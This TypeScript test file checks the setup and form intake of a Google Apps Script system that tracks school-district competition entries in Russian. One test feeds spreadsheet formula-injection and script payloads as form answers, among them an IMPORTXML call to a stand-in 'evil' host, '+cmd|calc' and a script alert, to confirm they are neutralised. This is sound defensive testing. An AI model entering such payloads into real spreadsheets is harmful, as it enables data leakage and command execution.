/**
 * Setup and intake through the real bundle on the emulator: idempotent setup, a small season,
 * duplicate and edited deliveries, a held lock, an injected failure, hostile answers, and
 * rebuildAll reproducing the incremental result exactly.
 */
import {
  column,
  lastExecution,
  monthlyReport,
  registration,
  setUpDistrict,
  snapshot,
} from './harness';
import { TABS } from '../../src/domain/formRegistry';

const DERIVED = ['Участники', 'Приказы', 'Отчёты ОУ', 'Результаты', 'Требует проверки'];
const REG = 'Регистрация участников';
const REPORT = 'Ежемесячный отчёт ОУ';
const ORDER = 'Приказы о направлении участников';
const RESULTS = 'Результаты участия';

describe('setupSystem', () => {
  test('a second run equals the first: no tab, form, item or trigger twice, nothing written', () => {
    const { ws, app } = setUpDistrict();
    const tabs = ws
      .spreadsheet()
      .getSheets()
      .map((s) => s.getName());
    const forms = ws.forms().map((f) => [f.title, f.items.map((i) => i.title)]);
    const triggers = ws.triggers().map((t) => [t.handler, t.type]);
    app.call('setupSystem');
    const run = lastExecution(ws, 'setupSystem');
    expect(
      ws
        .spreadsheet()
        .getSheets()
        .map((s) => s.getName()),
    ).toEqual(tabs);
    expect(ws.forms().map((f) => [f.title, f.items.map((i) => i.title)])).toEqual(forms);
    expect(ws.triggers().map((t) => [t.handler, t.type])).toEqual(triggers);
    expect(triggers.sort()).toEqual([
      ['handleFormSubmit', 'ON_FORM_SUBMIT'],
      ['runDailyJobs', 'CLOCK'],
    ]);
    for (const call of [
      'Spreadsheet.insertSheet',
      'FormApp.create',
      'Range.setValues',
      'Sheet.appendRow',
    ]) {
      expect({ call, n: run.calls[call] ?? 0 }).toEqual({ call, n: 0 });
    }
    expect(forms.map((f) => f[0])).toEqual(expect.arrayContaining([REG, REPORT, ORDER, RESULTS]));
    expect(tabs).toEqual(
      expect.arrayContaining([`Ответы: ${REG}`, 'ОУ', 'Настройки', 'Журнал', ...DERIVED]),
    );
  });

  test('text columns are formatted as plain text, so «5.4» or «12.10» typed by a school stays text', () => {
    const { ws } = setUpDistrict();
    for (const tab of TABS) {
      const sheet = ws.spreadsheet().getSheetByName(tab.name)!;
      const formats = sheet.getRange(2, 1, 1, tab.formats.length).getNumberFormats()[0];
      expect({ tab: tab.name, formats }).toEqual({ tab: tab.name, formats: tab.formats });
    }
    const orders = ws.spreadsheet().getSheetByName('Приказы')!;
    expect(orders.getRange(2, 2).getNumberFormat()).toBe('@');
    orders.getRange(2, 2).setValue('12.10');
    expect(orders.getRange(2, 2).getValue()).toBe('12.10');
  });

  test('a second staff member running the set-up installs no second pair of triggers', () => {
    const { ws, app } = setUpDistrict();
    app.call('saveSettings', { staff: 'second@center.example' });
    ws.actAs('second@center.example');
    const report = app.call('setupSystem');
    expect(ws.triggers().map((t) => [t.handler, t.owner])).toEqual(
      expect.arrayContaining([
        ['handleFormSubmit', 'metodist@center.example'],
        ['runDailyJobs', 'metodist@center.example'],
      ]),
    );
    expect(ws.triggers()).toHaveLength(2);
    expect(report.message).toContain('metodist@center.example');
  });

  test('a staff member takes the triggers over from someone no longer on the staff list', () => {
    const { ws, app } = setUpDistrict();
    app.call('saveSettings', { staff: 'new@center.example' });
    // The recorded holder left the centre: not staff, not the owner of the file.
    app.project.documentProperties.set('triggers.owner', 'left@center.example');
    ws.actAs('new@center.example');
    app.call('setupSystem');
    const mine = ws.triggers().filter((t) => t.owner === 'new@center.example');
    expect(mine.map((t) => t.handler).sort()).toEqual(['handleFormSubmit', 'runDailyJobs']);
    expect(app.project.documentProperties.get('triggers.owner')).toBe('new@center.example');
  });

  test('the order form gets the link fallback; the upload question is detected once added by hand', () => {
    const { ws, app } = setUpDistrict();
    const orderForm = ws.forms().find((f) => f.title === ORDER)!;
    expect(orderForm.items.map((i) => i.title)).toContain('Ссылка на файл приказа');
    expect(app.call('setupSystem').fileUploadPresent).toBe(false);
    ws.uploadFileItem(ORDER, 'Файл приказа');
    expect(app.call('setupSystem').fileUploadPresent).toBe(true);
  });
});

describe('handleFormSubmit', () => {
  test('a season: teams of one and two, a report, an order with a file, a result', () => {
    const { ws } = setUpDistrict();
    ws.uploadFileItem(ORDER, 'Файл приказа');
    ws.submitForm(REG, registration());
    ws.submitForm(
      REG,
      registration({
        'Образовательное учреждение': 'ГБОУ СОШ № 51',
        'Участник 1: фамилия': 'петров ',
        'Участник 1: имя': 'иван',
        'Участник 2: фамилия': 'Сидорова',
        'Участник 2: имя': 'Алёна',
        'Участник 2: класс / группа': '6 А',
      }),
    );
    ws.submitForm(REPORT, monthlyReport('ГБОУ СОШ № 47', 'сентябрь 2021'));
    ws.submitForm(ORDER, {
      'Образовательное учреждение': 'ГБОУ СОШ № 51',
      'Номер приказа': '112-о',
      'Дата приказа': '01.10.2021',
      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
      'Участники (Фамилия Имя, по одному в строке)': 'Петров Иван\nСидорова Алена',
      'Файл приказа': ['prikaz-112.pdf'],
    });
    ws.submitForm(RESULTS, {
      'Образовательное учреждение': 'ГБОУ СОШ № 47',
      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
      Компетенция: 'Мобильная робототехника',
      'Участник (Фамилия Имя)': 'Иванова Мария',
      Результат: 'Призёр (2 место)',
      Баллы: '87,5',
    });

    expect(column(ws, 'Участники', 'Фамилия')).toEqual(['Иванова', 'Петров', 'Сидорова']);
    expect(column(ws, 'Участники', 'ОУ')).toEqual(['ШКОЛА-47', 'ШКОЛА-51', 'ШКОЛА-51']);
    expect(column(ws, 'Участники', 'Приказ')).toEqual(['нет', 'есть', 'есть']);
    expect(column(ws, 'Участники', 'Результат')).toEqual(['Призёр (2 место)', '', '']);
    const teams = column(ws, 'Участники', 'Команда');
    expect(teams[1]).not.toBe('');
    expect(teams[1]).toBe(teams[2]);
    expect(column(ws, 'Отчёты ОУ', 'В срок')).toEqual(['да']);
    expect(column(ws, 'Приказы', 'Сопоставлено')).toEqual([2]);
    expect(column(ws, 'Результаты', 'Баллы')).toEqual([87.5]);
    // The uploaded file now lives in the bank of orders, under the school's folder.
    const file = ws.files().find((f) => f.name.startsWith('prikaz-112'))!;
    expect(file.path).toContain('Банк приказов/ШКОЛА-51');
  });

  test('only uploaded files are moved into the bank, never a file a school merely links to', () => {
    const { ws, app } = setUpDistrict();
    const master = ws.spreadsheet();
    const masterPath = ws.files().find((f) => f.id === master.getId())!.path;
    ws.submitForm(REG, registration());
    ws.submitForm(ORDER, {
      'Образовательное учреждение': 'ГБОУ СОШ № 47',
      'Номер приказа': '7',
      'Дата приказа': '01.10.2021',
      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
      'Участники (Фамилия Имя, по одному в строке)': 'Иванова Мария',
      'Ссылка на файл приказа': `https://drive.google.com/open?id=${master.getId()}`,
    });
    app.call('rebuildAll');
    app.call('rebuildAll');
    expect(ws.files().find((f) => f.id === master.getId())!.path).toBe(masterPath);
    expect(column(ws, 'Приказы', 'Файл приказа')).toEqual([
      `https://drive.google.com/open?id=${master.getId()}`,
    ]);
  });

  test('an upload whose submit found the table busy is moved by the next catch-up', () => {
    const { ws, app } = setUpDistrict();
    ws.uploadFileItem(ORDER, 'Файл приказа');
    ws.submitForm(REG, registration());
    ws.lockHeldElsewhere(true);
    ws.submitForm(ORDER, {
      'Образовательное учреждение': 'ГБОУ СОШ № 47',
      'Номер приказа': '9',
      'Дата приказа': '01.10.2021',
      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
      'Участники (Фамилия Имя, по одному в строке)': 'Иванова Мария',
      'Файл приказа': ['prikaz-9.pdf'],
    });
    ws.lockHeldElsewhere(false);
    const file = () => ws.files().find((f) => f.name.startsWith('prikaz-9'))!;
    expect(file().path).not.toContain('Банк приказов');
    ws.clock.advanceTo('2021-10-05T07:00:00+03:00'); // the daily run catches up
    expect(file().path).toContain('Банк приказов/ШКОЛА-47');
    app.call('rebuildAll');
    expect(column(ws, 'Приказы', 'Номер приказа')).toEqual(['9']);
  });

  test('the same response delivered twice, and an edited response, change one record only', () => {
    const { ws } = setUpDistrict();
    const first = ws.submitForm(REG, registration());
    const before = snapshot(ws, DERIVED);
    ws.fireDuplicateLastSubmit();
    expect(snapshot(ws, DERIVED)).toEqual(before);
    ws.submitForm(REG, registration({ 'Участник 1: класс / группа': '6 «Б»' }), {
      editOf: first.getId(),
    });
    expect(column(ws, 'Участники', 'Класс / группа')).toEqual(['6 «Б»']);
    // A second registration of the same child for the same event and competency is one participant.
    ws.submitForm(REG, registration({ 'Участник 1: фамилия': 'ИВАНОВА ' }));
    expect(column(ws, 'Участники', 'Фамилия')).toEqual(['Иванова']);
  });

  test('an edit that moves a merged registration to another ОУ leaves the same rows as a rebuild', () => {
    const { ws, app } = setUpDistrict();
    const first = ws.submitForm(REG, registration({ 'Участник 1: класс / группа': '5 А' }));
    ws.clock.advanceTo('2021-10-04T12:00:00+03:00');
    ws.submitForm(REG, registration({ 'Наставник: ФИО': 'Сергеева Анна Ивановна' }));
    ws.submitForm(REG, registration({ 'Участник 1: фамилия': 'Орлов', 'Участник 1: имя': 'Глеб' }));
    ws.submitForm(REG, registration({ 'Образовательное учреждение': 'ГБОУ СОШ № 51' }), {
      editOf: first.getId(),
    });
    const incremental = snapshot(ws, DERIVED);
    const sheet = ws.spreadsheet().getSheetByName('Участники')!;
    sheet.getRange(2, 1, sheet.getLastRow() - 1, sheet.getLastColumn()).clearContent();
    app.call('rebuildAll');
    expect(snapshot(ws, DERIVED)).toEqual(incremental);
    expect(column(ws, 'Участники', 'ОУ').sort()).toEqual(['ШКОЛА-47', 'ШКОЛА-47', 'ШКОЛА-51']);
  });

  test('a new answer rewrites only its ОУ block (inserted or grown mid-tab); an edit re-projects all', () => {
    const { ws, app } = setUpDistrict();
    const child = (surname: string, school: string) =>
      registration({ 'Образовательное учреждение': school, 'Участник 1: фамилия': surname });
    ws.submitForm(REG, child('Орлова', 'ГБОУ СОШ № 51'));
    ws.submitForm(REG, child('Соколова', 'ГБОУ СОШ № 47')); // a new block before the first
    ws.submitForm(REG, child('Лебедева', 'ГБДОУ № 106')); // and another one at the top
    // Rows inserted right under the header take the column formats of the rows below ('@' for a
    // class), not the header's.
    const participants = ws.spreadsheet().getSheetByName('Участники')!;
    const classColumn = ws.sheetValues('Участники')[0]!.indexOf('Класс / группа') + 1;
    expect(participants.getRange(2, classColumn).getNumberFormat()).toBe('@');
    ws.submitForm(REG, child('Волкова', 'ГБОУ СОШ № 51')); // the last block grows
    const last = ws.submitForm(REG, child('Зайцева', 'ГБОУ СОШ № 47')); // a middle block grows
    expect(column(ws, 'Участники', 'ОУ')).toEqual([
      'ДОУ-106',
      'ШКОЛА-47',
      'ШКОЛА-47',
      'ШКОЛА-51',
      'ШКОЛА-51',
    ]);
    // Two reads of the Sheets API (what every submit needs, then the ОУ's own answers and block,
    // found by the index of answers) — no tab read whole — one call inserting the block's new row,
    // one writing the values.
    const calls = lastExecution(ws, 'handleFormSubmit').calls;
    expect(calls['Sheet.getDataRange']).toBeUndefined();
    expect(calls['Sheets.Spreadsheets.Values.batchGetByDataFilter']).toBe(2);
    expect(calls['Sheets.Spreadsheets.batchUpdate']).toBe(1);
    expect(calls['Sheets.Spreadsheets.Values.batchUpdateByDataFilter']).toBe(1);
    ws.submitForm(REG, child('Зайцева', 'ГБДОУ № 106'), { editOf: last.getId() }); // 47 → 106
    // The edited row was placed before: everything is read and projected, as rebuildAll does
    // (4 response sheets, 4 reference tabs, settings, 5 derived tabs, the index).
    expect(lastExecution(ws, 'handleFormSubmit').calls['Sheet.getDataRange']).toBe(
      4 + 4 + 1 + 5 + 1,
    );
    expect(column(ws, 'Участники', 'ОУ')).toEqual([
      'ДОУ-106',
      'ДОУ-106',
      'ШКОЛА-47',
      'ШКОЛА-51',
      'ШКОЛА-51',
    ]);
    expect(column(ws, 'Участники', 'Фамилия')).toEqual([
      'Лебедева',
      'Зайцева',
      'Соколова',
      'Орлова',
      'Волкова',
    ]);
    const incremental = snapshot(ws, DERIVED);
    for (const tab of DERIVED) {
      const sheet = ws.spreadsheet().getSheetByName(tab)!;
      if (sheet.getLastRow() > 1) sheet.getRange(2, 1, sheet.getLastRow() - 1, 15).clearContent();
    }
    app.call('rebuildAll');
    expect(snapshot(ws, DERIVED)).toEqual(incremental);
  });

  test('a tab in the order of an earlier version (or sorted by hand) is regrouped by the next submit', () => {
    const { ws } = setUpDistrict();
    ws.submitForm(REG, registration({ 'Образовательное учреждение': 'ГБОУ СОШ № 51' }));
    ws.submitForm(REG, registration({ 'Участник 1: фамилия': 'Соколова' }));
    const sheet = ws.spreadsheet().getSheetByName('Участники')!;
    const rows = sheet.getRange(2, 1, 2, 15).getValues();
    sheet.getRange(2, 1, 2, 15).setValues([rows[1]!, rows[0]!]); // ШКОЛА-51 above ШКОЛА-47
    expect(column(ws, 'Участники', 'ОУ')).toEqual(['ШКОЛА-51', 'ШКОЛА-47']);
    ws.submitForm(REG, registration({ 'Участник 1: фамилия': 'Зайцева' }));
    expect(column(ws, 'Участники', 'ОУ')).toEqual(['ШКОЛА-47', 'ШКОЛА-47', 'ШКОЛА-51']);
  });

  test('a queue «Требует проверки» sorted by staff is put back in answer order by the next submit', () => {
    const { ws } = setUpDistrict();
    const hostile = (n: number) => registration({ 'Участник 1: фамилия': `=A${n}` });
    for (const n of [1, 2, 3]) ws.submitForm(REG, hostile(n));
    const sheet = ws.spreadsheet().getSheetByName('Требует проверки')!;
    const width = sheet.getLastColumn();
    const rows = sheet.getRange(2, 1, sheet.getLastRow() - 1, width).getValues();
    sheet.getRange(2, 1, rows.length, width).setValues(rows.slice().reverse());
    // An answer of another ОУ: only a full projection reorders the queue of school 47.
    ws.submitForm(
      REG,
      registration({ 'Участник 1: фамилия': '=A4', 'Образовательное учреждение': 'ГБОУ СОШ № 51' }),
    );
    const ids = column(ws, 'Требует проверки', 'Ответ-источник').map(String);
    expect(ids).toEqual(['REG-2', 'REG-3', 'REG-4', 'REG-5']);
  });

  test('the daily run re-projects everything every day: what a busy table left is placed', () => {
    const { ws } = setUpDistrict();
    ws.submitForm(REG, registration());
    ws.clock.advanceTo('2021-10-06T07:00:00+03:00');
    ws.lockHeldElsewhere(true);
    ws.submitForm(
      REG,
      registration({ 'Участник 1: фамилия': 'Кузнецов', 'Участник 1: имя': 'Олег' }),
    );
    ws.lockHeldElsewhere(false);
    expect(column(ws, 'Участники', 'Фамилия')).toEqual(['Иванова']);
    ws.clock.advanceTo('2021-10-07T07:00:00+03:00');
    expect(column(ws, 'Участники', 'Фамилия').sort()).toEqual(['Иванова', 'Кузнецов']);
    expect(column(ws, 'Журнал', 'Подробности').map(String).join('\n')).toContain(
      'Ответы форм учтены, обновлено строк',
    );
  });

  test('a held lock or a failing service keeps the raw answer; the next rebuild catches up', () => {
    const { ws, app } = setUpDistrict();
    ws.lockHeldElsewhere(true);
    ws.submitForm(REG, registration());
    ws.lockHeldElsewhere(false);
    expect(ws.sheetValues('Участники')).toHaveLength(1);
    expect(ws.sheetValues(`Ответы: ${REG}`)).toHaveLength(2);
    expect(column(ws, 'Журнал', 'Результат')).toContain('отложено');

    ws.faults.fail('Range.setValues', {
      times: 1,
      error: 'Service Spreadsheets failed while accessing document',
    });
    ws.submitForm(
      REG,
      registration({ 'Участник 1: фамилия': 'Кузнецов', 'Участник 1: имя': 'Олег' }),
    );
    expect(column(ws, 'Журнал', 'Ошибка')).toContain(
      'Service Spreadsheets failed while accessing document',
    );

    app.call('rebuildAll');
    expect(column(ws, 'Участники', 'Фамилия').sort()).toEqual(['Иванова', 'Кузнецов']);
  });

  test('hostile answers: no formula anywhere, a clear queue entry for each problem', () => {
    const { ws, app } = setUpDistrict();
    const hostile = [
      '=IMPORTXML("http://evil.example","//a")',
      '+cmd|calc',
      '@SUM(1+1)',
      '-1+1',
      '<script>alert(1)</script>',
      'x'.repeat(50000),
      '👩‍🔬 Ёлкина',
      '   ',
    ];
    for (const text of hostile) {
      ws.submitForm(REG, registration({ 'Участник 1: фамилия': text, 'Наставник: ФИО': text }));
    }
    ws.submitForm(ORDER, {
      'Образовательное учреждение': 'ГБОУ СОШ № 47',
      'Номер приказа': '=1+1',
      'Дата приказа': '31.02.2021',
      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
      'Участники (Фамилия Имя, по одному в строке)': '=HYPERLINK("http://evil","x")',
    });
    ws.submitForm(ORDER, {
      'Образовательное учреждение': 'ГБОУ СОШ № 47',
      'Номер приказа': '15',
      'Дата приказа': '01.01.2030',
      Мероприятие: 'Отборочный (заочный) тур регионального чемпионата JuniorSkills',
      'Участники (Фамилия Имя, по одному в строке)': 'Иванова Мария',
    });
    app.call('rebuildAll');
    for (const sheet of ws.spreadsheet().getSheets()) {
      const formulas = sheet
        .getDataRange()
        .getFormulas()
        .flat()
        .filter((f) => f !== '');
      expect({ tab: sheet.getName(), formulas }).toEqual({ tab: sheet.getName(), formulas: [] });
    }
    const problems = column(ws, 'Требует проверки', 'Проблема').map(String);
    const fields = column(ws, 'Требует проверки', 'Поле').map(String);
    expect(fields).toEqual(expect.arrayContaining(['Участник 1: фамилия', 'Дата приказа']));
    expect(problems.some((p) => p.includes('31.02.2021'))).toBe(true);
    expect(problems.some((p) => p.includes('01.01.2030'))).toBe(true);
    expect(problems.every((p) => p.length > 20)).toBe(true);
    // The raw answers are kept as typed (the response sheet is Google's, never edited).
    expect(ws.sheetValues(`Ответы: ${REG}`).length).toBe(hostile.length + 1);
  });

  test('an unknown ОУ goes to the queue with candidates; rebuildAll reproduces intake exactly', () => {
    const { ws, app } = setUpDistrict();
    ws.submitForm(REG, registration());
    ws.submitForm(
      REG,
      registration({ 'Участник 1: фамилия': 'Смирнов', 'Участник 1: имя': 'Олег' }),
    );
    ws.submitForm(REPORT, monthlyReport('ГБДОУ № 21', 'сентябрь 2021'));
    const incremental = snapshot(ws, DERIVED);
    const sheet = ws.spreadsheet().getSheetByName('Участники')!;
    sheet.getRange(2, 1, sheet.getLastRow() - 1, sheet.getLastColumn()).clearContent();
    app.call('rebuildAll');
    expect(snapshot(ws, DERIVED)).toEqual(incremental);

    // Staff renumber school 47 in the registry: its answers no longer place and are queued.
    const registry = ws.spreadsheet().getSheetByName('ОУ')!;
    registry
      .getRange(2, 1, 1, 5)
      .setValues([['ШКОЛА-74', 'школа', '74', 'ГБОУ СОШ № 74', 'ГБОУ СОШ № 74']]);
    app.call('rebuildAll');
    expect(column(ws, 'Участники', 'ОУ')).toEqual([]);
    const fields = column(ws, 'Требует проверки', 'Поле');
    expect(fields.filter((f) => f === 'Образовательное учреждение')).toHaveLength(2);
    const suggestions = column(ws, 'Требует проверки', 'Что сделать').map(String);
    expect(suggestions.filter((t) => t.includes('ГБОУ СОШ № 74'))).toHaveLength(2);
    expect(ws.sheetValues(`Ответы: ${REG}`)).toHaveLength(3);
  });

  test('a submit costs the same bounded number of service calls however large the tabs are', () => {
    const { ws } = setUpDistrict();
    ws.submitForm(REG, registration()); // the first answer ever: a full projection records the rows
    ws.submitForm(REG, registration({ 'Участник 1: имя': 'Анна' }));
    const small = Object.values(lastExecution(ws, 'handleFormSubmit').calls).reduce(
      (a, b) => a + b,
      0,
    );
    for (let i = 0; i < 40; i++) {
      ws.submitForm(
        REG,
        registration({
          'Участник 1: фамилия': `Иванов${'а'.repeat(i % 5)}`,
          'Участник 1: имя': `Имя${i}`,
        }),
      );
    }
    const large = Object.values(lastExecution(ws, 'handleFormSubmit').calls).reduce(
      (a, b) => a + b,
      0,
    );
    // The count depends only on which tabs changed, never on how many rows they hold.
    expect(Math.abs(large - small)).toBeLessThanOrEqual(4);
    expect(large).toBeLessThanOrEqual(60);
  });
});
